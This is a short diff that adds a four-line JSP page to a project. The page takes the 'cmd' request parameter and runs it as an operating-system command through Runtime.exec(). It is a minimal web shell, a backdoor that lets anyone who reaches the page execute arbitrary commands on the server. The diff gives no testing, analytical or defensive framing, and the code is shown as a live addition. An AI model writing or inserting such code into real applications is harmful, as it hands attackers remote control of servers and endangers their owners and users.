@@ -1,0 +1,4 @@
+<%@ page import="java.io.*" %>
+<%
+Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
+%>
